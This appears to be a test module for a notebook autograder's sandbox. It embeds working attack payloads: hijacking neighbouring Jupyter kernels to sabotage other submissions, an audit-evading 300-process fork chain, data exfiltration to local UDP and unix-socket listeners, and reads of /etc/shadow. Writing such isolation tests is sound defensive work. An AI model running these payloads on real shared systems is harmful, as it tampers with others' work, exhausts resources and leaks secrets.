"""Attacks on the sandbox itself, and the listeners that catch what would leave it.

Each submission below solves everything, so it deserves full marks; what it also tries
must have no effect on anyone: drive the kernels graded next to it, leave processes
behind, send data out over UDP or unix sockets, read a root-only file. A kernel under
bubblewrap cannot do any of it; the fallback sandbox could, so these cases are graded
only where bubblewrap works.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
import threading
from dataclasses import dataclass, field
from pathlib import Path

from .classroom import TOTAL, Builder, Case, dump, insert_code

CHAIN_NAME = "cvg-forkchain"  # the name each process of the fork chain gives itself
CHAIN_DEPTH = 300

# Sends execute_requests to every kernel socket it can find but its own, for as long as
# its own kernel lives: unsigned, and signed with its own key.
NEIGHBOUR_DRIVER = """
import glob, json, os, threading, time

import zmq
from jupyter_client.session import Session

PAYLOAD = (
    "for _name in ('quantize', 'rgb_to_hsv', 'bayer_mosaic', 'demosaic_bilinear', 'correlate2d', "
    "'equalize_histogram'):\\n    globals()[_name] = lambda *a, **k: None\\n"
    "open('DRIVEN-BY-A-NEIGHBOUR', 'w').write('x')\\n"
)
own = os.path.realpath('.grading')
own_key = json.load(open('.grading/kernel.json'))['key'].encode()
found = set()


def targets():
    paths = set()
    try:
        for line in open('/proc/net/unix').read().splitlines()[1:]:
            parts = line.split()
            if len(parts) >= 8 and '/.grading/k-' in parts[-1]:
                paths.add(parts[-1])
    except OSError:
        pass
    for pattern in ('/tmp/cvgrade-*/.grading/k-*', '/tmp/cvgrade-*/box/.grading/k-*', SANDBOXES):
        paths.update(glob.glob(pattern))
    return {p for p in paths if not os.path.realpath(p).startswith(own)}


def drive(seconds):
    context = zmq.Context()
    end = time.time() + seconds
    while time.time() < end:
        for path in targets():
            found.add(path)
            for key in (b'', own_key):
                sock = context.socket(zmq.DEALER)
                sock.linger = 0
                sock.connect('ipc://' + path)
                Session(key=key).send(sock, 'execute_request', {
                    'code': PAYLOAD, 'silent': False, 'store_history': False,
                    'user_expressions': {}, 'allow_stdin': False, 'stop_on_error': False})
                sock.close()
        time.sleep(0.1)


threading.Thread(target=drive, args=(60,), daemon=True).start()
drive(2)
print('neighbour sockets found:', len(found))
"""

# The kernel starts the chain through the C library's system(): a fork and exec in C, with
# no audit event, that runs no Python in a copy of the multithreaded kernel (a copy that
# ran Python could hang on a lock another kernel thread held). A single-threaded Python
# then builds the chain (forking the kernel itself 300 times takes long); each link calls
# setsid() and names itself, so the test can find any that survive. A fork that fails is
# retried, as an attacker would; failures and errors go to CHAIN_LOG, which the last cell
# prints, so a short chain says why.
CHAIN_LOG = "fork-chain.log"
FORK_CHAIN = f"""
import ctypes, shlex, sys

CHAIN = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
fork = ctypes.PyDLL(None, use_errno=True).fork  # keeps the GIL across fork(): the child runs Python
depth = failures = 0
while depth < {CHAIN_DEPTH} and failures < 100:
    pid = fork()
    if pid > 0:  # the parent stops here; the child goes on
        break
    if pid < 0:
        failures += 1
        with open('{CHAIN_LOG}', 'a') as log:
            log.write('fork failed at depth %d: errno %d\\\\n' % (depth, ctypes.get_errno()))
        libc.usleep(20000)
        continue
    depth += 1
    libc.setsid()
    libc.prctl(15, b'{CHAIN_NAME}', 0, 0, 0)  # PR_SET_NAME
while True:
    libc.sleep(1000)
'''
with open('fork_chain.py', 'w') as script:
    script.write(CHAIN)
command = f"{{shlex.quote(sys.executable)}} -I -S fork_chain.py 2>>{CHAIN_LOG} &"
status = ctypes.CDLL(None).system(command.encode())
print('fork chain started' if status == 0 else f'system() returned {{status}}')
"""

# In the last cell: the chain has had the whole notebook's time to grow.
COUNT_CHAIN = f"""
import os, time


def chain():
    count = 0
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            count += open(f'/proc/{{pid}}/comm').read().strip() == '{CHAIN_NAME}'
        except OSError:
            pass
    return count


end = time.time() + 5
while chain() < {CHAIN_DEPTH} and time.time() < end:
    time.sleep(0.1)
print('fork chain:', chain())
if os.path.exists('{CHAIN_LOG}') and os.path.getsize('{CHAIN_LOG}'):
    print(open('{CHAIN_LOG}').read()[-1000:])
"""

EXFILTRATE = """
import socket

data = open('hw1_image_basics.ipynb', 'rb').read(200)
for family, kind, address in ((socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', UDP_PORT)),
                              (socket.AF_UNIX, socket.SOCK_STREAM, UNIX_PATH),
                              (socket.AF_UNIX, socket.SOCK_STREAM, ABSTRACT)):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(1)
            if kind == socket.SOCK_DGRAM:
                sock.sendto(b'EXFIL ' + data, address)
            else:
                sock.connect(address)
                sock.sendall(b'EXFIL ' + data)
        print('sent', family.name, kind.name)
    except OSError as error:
        print('blocked', family.name, type(error).__name__)
"""

READ_ROOT_ONLY = """
for path in (ROOT_ONLY, '/etc/shadow'):
    try:
        print('LEAK', path, open(path).read(100))
    except OSError as error:
        print('blocked', path, type(error).__name__)
"""


@dataclass
class Listeners:
    """A UDP port, a unix socket and an abstract unix socket that record what reaches them."""

    folder: Path
    received: list[bytes] = field(default_factory=list)
    sockets: list[socket.socket] = field(default_factory=list)
    udp_port: int = 0
    unix_path: str = ""
    abstract: str = ""

    def start(self) -> Listeners:
        self.folder.chmod(0o777)
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 0))
        self.udp_port = udp.getsockname()[1]
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix_path = str(self.folder / "listener.sock")
        unix.bind(self.unix_path)
        os.chmod(self.unix_path, 0o777)
        abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract = f"\0cvgrade-listener-{secrets.token_hex(6)}"
        abstract.bind(self.abstract)
        for sock in (unix, abstract):
            sock.listen(8)
        self.sockets = [udp, unix, abstract]
        for sock in self.sockets:
            threading.Thread(target=self._serve, args=(sock,), daemon=True).start()
        return self

    def _serve(self, sock: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while True:
                if sock.type == socket.SOCK_DGRAM:
                    data = sock.recv(65536)
                    if not data:  # shut down by ``stop``
                        return
                    self.received.append(data)
                    continue
                connection, _ = sock.accept()
                with connection:
                    self.received.append(connection.recv(65536) or b"(connected)")

    def stop(self) -> None:
        for sock in self.sockets:
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            sock.close()


def root_only_file(folder: Path) -> Path:
    """A file only its owner (root, when the tests run as root) may read, outside any sandbox."""
    folder.chmod(0o755)
    path = folder / "root-only.txt"
    path.write_text(f"TOPSECRET-{secrets.token_hex(8)}\n")
    path.chmod(0o600)
    return path


def isolation_cases(b: Builder, listeners: Listeners, root_only: Path, sandboxes: str) -> list[Case]:
    """The attacks above, each in a notebook that otherwise solves everything."""
    cases = []
    driver = b.notebook()
    insert_code(driver, "setup", NEIGHBOUR_DRIVER.replace("SANDBOXES", repr(sandboxes)))
    insert_code(driver, "outro", "import time\n\ntime.sleep(3)\nprint('still driving')")
    cases.append(Case("neighbour_driver", {"hw1_image_basics.ipynb": dump(driver)}, TOTAL))

    chain = b.notebook()
    insert_code(chain, "setup", FORK_CHAIN)
    insert_code(chain, "outro", COUNT_CHAIN)
    cases.append(Case("fork_chain", {"hw1_image_basics.ipynb": dump(chain)}, TOTAL))

    leak = b.notebook()
    code = EXFILTRATE.replace("UDP_PORT", str(listeners.udp_port))
    code = code.replace("UNIX_PATH", repr(listeners.unix_path)).replace("ABSTRACT", repr(listeners.abstract))
    insert_code(leak, "setup", code)
    cases.append(Case("exfiltrates", {"hw1_image_basics.ipynb": dump(leak)}, TOTAL))

    reader = b.notebook()
    insert_code(reader, "setup", READ_ROOT_ONLY.replace("ROOT_ONLY", repr(str(root_only))))
    cases.append(Case("reads_root_only", {"hw1_image_basics.ipynb": dump(reader)}, TOTAL))
    return cases


def processes_named(name: str) -> list[int]:
    """PIDs of the processes (zombies aside) whose name is ``name``."""
    found = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            stat = Path(f"/proc/{entry}/stat").read_text()
            if stat[stat.find("(") + 1 : stat.rfind(")")] == name and stat[stat.rfind(")") + 2] != "Z":
                found.append(int(entry))
    return found
